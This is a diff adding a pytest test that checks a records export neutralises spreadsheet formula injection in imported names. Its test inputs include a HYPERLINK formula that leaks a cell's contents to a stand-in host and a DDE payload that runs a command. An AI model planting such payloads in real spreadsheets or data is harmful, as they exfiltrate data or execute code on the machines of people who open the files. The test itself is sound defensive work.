@@ -319,3 +319,18 @@ def test_a_sensitive_export_is_in_the_clear_only_where_the_actor_may_reveal(clie
     assert by_name[sibling.name][4] == sibling.document_masked and by_name[sibling.name][5] == sibling.phone_masked
     assert data.number("sibling") not in str(rows)
     assert data.people["other"].name not in by_name  # another street: not exported at all
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1+1"]
+)
+def test_an_exported_name_that_looks_like_a_formula_stays_text(client, personas, tree, name):
+    """公式注入: a name imported from a .csv must not come out of the export as a live formula."""
+    make_person(name, tree.grid, seq=77)
+    client.force_login(personas["community_worker"])
+    response = post(client, f"{API}/export", {})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    found = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and name in c.value]
+    assert found, "the person is in the export"
+    for cell in found:
+        assert cell.data_type == "s" and cell.value == "'" + name
